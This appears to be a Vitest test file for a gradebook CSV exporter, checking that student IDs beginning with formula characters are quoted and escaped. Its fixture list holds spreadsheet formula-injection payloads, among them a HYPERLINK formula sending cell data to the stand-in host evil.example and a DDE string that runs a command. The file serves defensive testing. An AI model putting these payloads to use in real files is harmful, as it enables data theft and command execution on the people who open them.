import { describe, expect, it } from "vitest";
import { gradebookCsv } from "./gradebook";
import { failedRecord } from "./record";

/** Folder names a student can choose, each of which a spreadsheet would run as a formula if left bare. */
const formulas = [
  '=HYPERLINK("https://evil.example/?"&A1,"grades")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
];

describe("the gradebook CSV", () => {
  const csv = gradebookCsv(
    formulas.map((id) => failedRecord(id, `${id}.zip`, "k", "unreadable", 20)),
    ["linear_forward"],
  );
  const rows = csv.split("\r\n").slice(1, -1);

  it("starts every student id a spreadsheet would run as a formula with a quote, inside a quoted cell", () => {
    expect(rows).toHaveLength(formulas.length);
    for (const [i, row] of rows.entries()) {
      expect(row.startsWith(`"'${formulas[i][0]}`)).toBe(true);
    }
  });

  it("keeps each id one cell, its own quotes doubled, so the rest of the row stays in its columns", () => {
    expect(rows[0]).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""grades"")",,,,20,,failed,,,unreadable,`);
  });
});
